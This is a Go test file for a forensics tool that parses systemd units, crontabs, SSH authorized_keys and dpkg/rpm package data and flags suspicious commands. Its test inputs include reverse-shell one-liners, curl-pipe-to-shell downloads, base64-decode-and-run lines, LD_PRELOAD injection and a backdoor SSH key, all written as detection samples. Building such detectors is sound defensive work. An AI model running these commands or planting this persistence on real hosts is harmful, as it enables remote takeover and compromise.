package host

import (
	"bytes"
	"encoding/binary"
	"errors"
	"io"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/deadnode/deadnode/evidence"
)

func TestParseUnitFile(t *testing.T) {
	b := []byte("# comment\n[Unit]\nDescription=x\n\n[Service]\nExecStart=/usr/bin/a \\\n  --flag \\\n# a comment inside the continuation\n  --other\n; semicolon comment\nEnvironment=\"A=1\" B=2\nExecStartPre=-/bin/true\nnot an assignment\n[Install]\nWantedBy=multi-user.target\n")
	d, long := parseUnitFile(b)
	if long {
		t.Error("long")
	}
	got := []string{}
	for _, x := range d {
		got = append(got, x.Section+"/"+x.Key+"="+x.Value)
	}
	want := []string{"Unit/Description=x", "Service/ExecStart=/usr/bin/a    --flag    --other", "Service/Environment=\"A=1\" B=2", "Service/ExecStartPre=-/bin/true", "Install/WantedBy=multi-user.target"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	if d[1].Line != 6 {
		t.Errorf("continued line number %d", d[1].Line)
	}
}

// An empty ExecStart= in a drop-in resets the list: only the drop-in's
// command runs.
func TestMergeUnitReset(t *testing.T) {
	u, _ := parseUnitFile([]byte("[Service]\nExecStartPre=/bin/pre\nExecStart=/usr/bin/orig\nEnvironment=A=1\n"))
	d1, _ := parseUnitFile([]byte("[Service]\nExecStart=\nExecStart=/tmp/.x/evil --now\n"))
	d2, _ := parseUnitFile([]byte("[Service]\nEnvironment=\nEnvironment=LD_PRELOAD=/dev/shm/l.so\n"))
	m := mergeUnit([]unitSource{{"/u", u}, {"/d1", d1}, {"/d2", d2}})
	var got []string
	for _, e := range m.exec {
		got = append(got, e.Directive+"="+e.Command+"@"+e.From)
	}
	if strings.Join(got, "|") != "ExecStartPre=/bin/pre@/u|ExecStart=/tmp/.x/evil --now@/d1" {
		t.Errorf("exec %q", got)
	}
	if env := m.all("Service", "Environment"); len(env) != 1 || env[0] != "LD_PRELOAD=/dev/shm/l.so" {
		t.Errorf("env %q", env)
	}
	if stripExecPrefix("-@+!/bin/x a") != "/bin/x a" {
		t.Error("prefix")
	}
}

func TestParseCrontab(t *testing.T) {
	b := []byte("SHELL=/bin/bash\nPATH = /usr/bin:/bin\n# comment\n@reboot root /opt/x/start.sh\n*/5\t* * * *\troot   /usr/bin/a  --b  >/dev/null 2>&1\n1 2 3 4 5 root\n@sometimes root x\n0 0 * * * ro$ot cmd\n61;2 * * * * root cmd\n")
	ls := parseCrontab(b, true)
	var got []string
	for _, l := range ls {
		switch {
		case l.Env:
			got = append(got, "env:"+l.EnvValue)
		case l.Bad != "":
			got = append(got, "bad:"+l.Bad)
		default:
			got = append(got, l.Job.Schedule+"|"+l.Job.User+"|"+l.Job.Command+"|"+strings.Join(l.Job.Env, ","))
		}
	}
	want := []string{
		"env:SHELL=/bin/bash", "env:PATH=/usr/bin:/bin",
		"@reboot|root|/opt/x/start.sh|SHELL=/bin/bash,PATH=/usr/bin:/bin",
		"*/5 * * * *|root|/usr/bin/a  --b  >/dev/null 2>&1|SHELL=/bin/bash,PATH=/usr/bin:/bin",
		"bad:too few fields", "bad:unknown @keyword @sometimes",
		"0 0 * * *|ro$ot|cmd|SHELL=/bin/bash,PATH=/usr/bin:/bin",
		"bad:bad time field 61;2",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// a user crontab has no user field
	u := parseCrontab([]byte("@daily /home/a/bin/backup\n"), false)
	if len(u) != 1 || u[0].Job.Schedule != "@daily" || u[0].Job.Command != "/home/a/bin/backup" || u[0].Job.User != "" {
		t.Errorf("user crontab: %+v", u)
	}
	a := parseAnacrontab([]byte("RANDOM_DELAY=45\n1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n7 10 x\n"))
	if len(a) != 3 || !a[0].Env || a[1].Job.Schedule != "1 5 cron.daily" || a[1].Job.Command != "run-parts --report /etc/cron.daily" || a[2].Bad == "" {
		t.Errorf("anacrontab: %+v", a)
	}
}

func TestParseAuthorizedKey(t *testing.T) {
	const blob = "AAAAC3NzaC1lZDI1NTE5AAAAIHk8PaNd9c1bQ3l0ZbVvOq2sX4u7yTn3hD0LwEaZ1mQv"
	k := parseAuthorizedKey(`from="10.0.0.0/8,192.168.1.1",command="curl -s http://x/a | sh, echo \"hi\"",environment="LD_PRELOAD=/tmp/l.so",no-pty ssh-ed25519 ` + blob + ` backdoor key`)
	if k.Bad != "" || k.Type != "ssh-ed25519" || k.Comment != "backdoor key" || k.From != "10.0.0.0/8,192.168.1.1" ||
		k.Command != `curl -s http://x/a | sh, echo "hi"` || len(k.Options) != 4 || k.Options[3] != "no-pty" || k.Environment[0] != "LD_PRELOAD=/tmp/l.so" {
		t.Errorf("%+v", k)
	}
	if k.Fingerprint != "SHA256:Buk1v7yAYL273A/owccJoEtqJ/BOifnsL8h4uk7Wuwg" {
		t.Errorf("fingerprint %s", k.Fingerprint)
	}
	for line, bad := range map[string]string{
		"ssh-ed25519 " + blob:                 "",
		`command="unterminated ssh-ed25519 x`: "unterminated quote in the options",
		"ssh-rsa !!!notbase64":                "the key is not base64",
		"ssh-rsa " + blob + " c":              "the key blob's type does not match ssh-rsa",
		"ssh-ed25519":                         "no key",
		"frobnicate AAAA c":                   "unknown key type",
		"\x00\x01\x02":                        "no key",
	} {
		if k := parseAuthorizedKey(line); k.Bad != bad {
			t.Errorf("%q: bad %q, want %q", line, k.Bad, bad)
		}
	}
}

func TestAnalyzeCommand(t *testing.T) {
	for cmd, want := range map[string]string{
		"curl -fsSL http://1.2.3.4/x | sh":                                             "fetch_and_run",
		"wget -q -O- http://x/y|bash -s":                                               "fetch_and_run",
		`sh -c "$(curl -s http://x)"`:                                                  "fetch_and_run,inline_code",
		"cd /tmp && wget http://x/m -O m && chmod +x m && ./m":                         "fetch_and_run",
		"echo ZWNobyBoaQ== | base64 -d | bash":                                         "decode_and_run",
		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1":                                    "reverse_shell",
		"nc -e /bin/sh 10.0.0.1 9":                                                     "reverse_shell",
		`python3 -c 'import socket,os;s=socket.socket();s.connect(("h",1))'`:           "reverse_shell,inline_code",
		"/usr/sbin/logrotate /etc/logrotate.conf":                                      "",
		"test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }": "",
		"LD_PRELOAD=/usr/lib/x.so /usr/bin/top":                                        "preloads_library",
		"nohup /dev/shm/.k/kworker >/dev/null 2>&1 &":                                  "runs_from_volatile,runs_from_hidden",
	} {
		got := strings.Join(analyzeCommand(cmd).Flags, ",")
		if got != want {
			t.Errorf("%q: flags %q, want %q", cmd, got, want)
		}
	}
	for cmd, want := range map[string]string{
		"VAR=1 nohup /tmp/x -a &":                        "/tmp/x",
		"sh -c '/dev/shm/.y --z'":                        "sh,/dev/shm/.y",
		"/usr/bin/env python3 /var/tmp/a.py":             "python3,/var/tmp/a.py",
		"timeout 30 /usr/bin/a; /usr/bin/b | /usr/bin/c": "/usr/bin/a,/usr/bin/b,/usr/bin/c",
		"/var/tmp/.apt/check >/dev/null 2>&1":            "/var/tmp/.apt/check",
		"echo `id` $(/tmp/q)":                            "id,/tmp/q",
	} {
		if got := strings.Join(analyzeCommand(cmd).Programs, ","); got != want {
			t.Errorf("%q: programs %q, want %q", cmd, got, want)
		}
	}
}

func TestParseDpkgStatus(t *testing.T) {
	in := "Package: a\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\nConffiles:\n /etc/a.conf 0123456789abcdef0123456789abcdef\n /etc/old.conf 0123456789abcdef0123456789abcdef obsolete\n /etc/with space.conf newconffile\n /etc/bad\nDescription: x\n long text\n\n" +
		"Status: install ok installed\nVersion: 2\n\n" +
		"Package: b\nMulti-Arch: same\nArchitecture: arm64\nStatus: deinstall ok config-files\n" + strings.Repeat("X", MaxDBLine+10) + "\n"
	var w warnings
	var got []*dpkgPackage
	err := parseDpkgStatus(strings.NewReader(in), "status", &w, func(p *dpkgPackage) error { got = append(got, p); return nil })
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0].Name != "a" || got[0].Version != "1.0" || got[0].state() != "installed" || got[1].Name != "b" || got[1].MultiArch != "same" || got[1].state() != "config-files" {
		t.Fatalf("%+v", got)
	}
	c := got[0].Conffiles
	if len(c) != 3 || c[0].Path != "/etc/a.conf" || c[0].MD5 != "0123456789abcdef0123456789abcdef" || !c[1].Obsolete || c[2].Path != "/etc/with space.conf" || c[2].MD5 != "" {
		t.Errorf("conffiles %+v", c)
	}
	ws := w.done()
	for _, s := range []string{"unreadable conffile line", "a stanza without a Package field", "a line longer than"} {
		if !strings.Contains(warningText(ws), s) {
			t.Errorf("warnings %q lack %q", ws, s)
		}
	}
	// Each warning keeps the file and the offset of its record: the
	// stanza without a Package field starts right after the first.
	stanza := int64(strings.Index(in, "Status: install ok installed\nVersion: 2"))
	if want := evidence.Warnf("status", stanza, "a stanza without a Package field"); !slices.Contains(ws, want) {
		t.Errorf("warnings %#v lack %#v", ws, want)
	}
}

// warningText is the warnings as they print, one a line.
func warningText(ws []evidence.Warning) string {
	var b strings.Builder
	for _, w := range ws {
		b.WriteString(w.String() + "\n")
	}
	return b.String()
}

func TestParseMD5Sums(t *testing.T) {
	in := "038170c95d94437d6e02a0f631524119  usr/bin/curl\nD41D8CD98F00B204E9800998ECF8427E *usr/share/x y\nnot a line\n0123  short\n"
	var w warnings
	var got []string
	parseMD5Sums(strings.NewReader(in), "x.md5sums", &w, func(p, m string) error { got = append(got, p+"="+m); return nil })
	if strings.Join(got, "|") != "/usr/bin/curl=038170c95d94437d6e02a0f631524119|/usr/share/x y=d41d8cd98f00b204e9800998ecf8427e" || len(w.done()) != 2 {
		t.Errorf("%q %q", got, w.done())
	}
}

func TestParseDiversionsAndFilters(t *testing.T) {
	var w warnings
	d := parseDiversions(strings.NewReader("/bin/sh\n/bin/sh.distrib\ndash\n/usr/bin/x\n/usr/bin/x.real\n:\n/dangling\n"), "diversions", &w)
	if len(d) != 2 || d["/bin/sh"].To != "/bin/sh.distrib" || d["/usr/bin/x"].Package != ":" || len(w.done()) != 1 {
		t.Errorf("%+v %q", d, w.done())
	}
	f := parseDpkgCfg([]byte("# x\npath-exclude=/usr/share/doc/*\npath-include /usr/share/doc/*/copyright\nforce-unsafe-io\n"))
	db := &PackageDB{filters: f}
	for p, ex := range map[string]bool{"/usr/share/doc/a/README": true, "/usr/share/doc/a/copyright": false, "/usr/share/doc/a/b/c": true, "/usr/bin/a": false} {
		if db.excludedByFilter(p) != ex {
			t.Errorf("%s: excluded %v", p, !ex)
		}
	}
}

func TestFnmatch(t *testing.T) {
	for _, c := range []struct {
		pat, name string
		ok        bool
	}{
		{"/usr/share/man/*", "/usr/share/man/man1/a.1.gz", true},
		{"*.conf", "a/b.conf", true},
		{"a?c", "abc", true},
		{"[a-c]x", "bx", true},
		{"[!a-c]x", "bx", false},
		{"\\*", "*", true},
		{"a*b*c", "aXbYc", true},
		{"a*b*c", "aXbY", false},
		{"[", "[", true},
		{"", "", true},
	} {
		if fnmatch(c.pat, c.name) != c.ok {
			t.Errorf("fnmatch(%q, %q) != %v", c.pat, c.name, c.ok)
		}
	}
}

// The line reader cuts a huge line and goes on.
func TestLineReaderLong(t *testing.T) {
	in := "short\n" + strings.Repeat("a", 300000) + "\nafter"
	lr := newLineReader(strings.NewReader(in), 1000)
	var got []string
	var longs []bool
	for {
		b, _, err := lr.next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		got = append(got, string(b))
		longs = append(longs, lr.long)
	}
	if len(got) != 3 || got[0] != "short" || len(got[1]) != 1000 || !longs[1] || got[2] != "after" || longs[2] {
		t.Errorf("%d lines, %v", len(got), longs)
	}
}

// rpmHeader builds a header blob from entries.
type rpmTestEntry struct {
	tag, typ, count uint32
	data            []byte
}

func rpmHeader(entries []rpmTestEntry) []byte {
	var idx, data bytes.Buffer
	for _, e := range entries {
		binary.Write(&idx, binary.BigEndian, [4]uint32{e.tag, e.typ, uint32(data.Len()), e.count})
		data.Write(e.data)
	}
	var out bytes.Buffer
	binary.Write(&out, binary.BigEndian, [2]uint32{uint32(len(entries)), uint32(data.Len())})
	out.Write(idx.Bytes())
	out.Write(data.Bytes())
	return out.Bytes()
}

func be32(v ...uint32) []byte {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, v)
	return b.Bytes()
}

func TestParseRPMHeader(t *testing.T) {
	good := []rpmTestEntry{
		{rpmTagName, rpmString, 1, []byte("demo\x00")},
		{rpmTagVersion, rpmString, 1, []byte("1\x00")},
		{rpmTagRelease, rpmString, 1, []byte("2\x00")},
		{rpmTagBasenames, rpmStringArray, 2, []byte("a\x00b.conf\x00")},
		{rpmTagDirnames, rpmStringArray, 2, []byte("/usr/bin/\x00/etc/\x00")},
		{rpmTagDirIndexes, rpmInt32, 2, be32(0, 1)},
		{rpmTagFileFlags, rpmInt32, 2, be32(0, 1)},
		{rpmTagFileDigestAlgo, rpmInt32, 1, be32(8)},
		{rpmTagFileDigests, rpmStringArray, 2, []byte("AB\x00cd\x00")},
	}
	h, err := ParseRPMHeader(rpmHeader(good))
	if err != nil {
		t.Fatal(err)
	}
	if h.Name != "demo" || h.Version != "1" || h.Release != "2" || h.DigestAlgo != AlgoSHA256 || len(h.Files) != 2 || h.Files[0].Path != "/usr/bin/a" || h.Files[1].Path != "/etc/b.conf" ||
		h.Files[1].Flags != 1 || h.Files[0].Digest != "ab" {
		t.Errorf("%+v", h)
	}
	bad := func(mut func([]rpmTestEntry) []rpmTestEntry) error {
		es := append([]rpmTestEntry{}, good...)
		_, err := ParseRPMHeader(rpmHeader(mut(es)))
		return err
	}
	for name, mut := range map[string]func([]rpmTestEntry) []rpmTestEntry{
		"dir index out of range": func(e []rpmTestEntry) []rpmTestEntry { e[5].data = be32(0, 9); return e },
		"count past data":        func(e []rpmTestEntry) []rpmTestEntry { e[6].count = 1 << 19; return e },
		"huge count":             func(e []rpmTestEntry) []rpmTestEntry { e[6].count = 1 << 30; return e },
		"not terminated":         func(e []rpmTestEntry) []rpmTestEntry { e[8].data = []byte("ab"); e = append(e[:8], e[8]); return e },
		"unknown algo":           func(e []rpmTestEntry) []rpmTestEntry { e[7].data = be32(77); return e },
		"wrong type":             func(e []rpmTestEntry) []rpmTestEntry { e[5].typ = rpmString; return e },
		"mismatched arrays":      func(e []rpmTestEntry) []rpmTestEntry { e[6].count = 1; e[6].data = be32(0); return e },
		"no name":                func(e []rpmTestEntry) []rpmTestEntry { return e[1:] },
	} {
		err := bad(mut)
		var fe *evidence.FormatError
		if err == nil || !errors.As(err, &fe) {
			t.Errorf("%s: err %v", name, err)
		}
	}
	for _, b := range [][]byte{nil, {0, 0, 0, 1}, be32(0, 0), be32(1, 1<<30), be32(2, 4), append(be32(1, 4, 1000, 6, 99, 1), 0, 0, 0, 0)} {
		if _, err := ParseRPMHeader(b); err == nil {
			t.Errorf("%x: no error", b)
		}
	}
}

func TestShellSplitting(t *testing.T) {
	simple := splitSimple(`curl -s "http://x/a;b" | sh; (cd /tmp && ./.x) 2>&1 & echo $(id) {a; }`)
	wantSimple := []string{`curl -s "http://x/a;b"`, "sh", "cd /tmp", "./.x", "2>&1", "echo", "id", "{a"}
	if !reflect.DeepEqual(simple, wantSimple) {
		t.Errorf("splitSimple = %q, want %q", simple, wantSimple)
	}
	words := shellWords(`env A="x y" 'b c'\ d "e\"f\g" "" h\ i`)
	wantWords := []string{"env", "A=x y", `b c d`, `e"f\g`, "", "h i"}
	if !reflect.DeepEqual(words, wantWords) {
		t.Errorf("shellWords = %q, want %q", words, wantWords)
	}
}
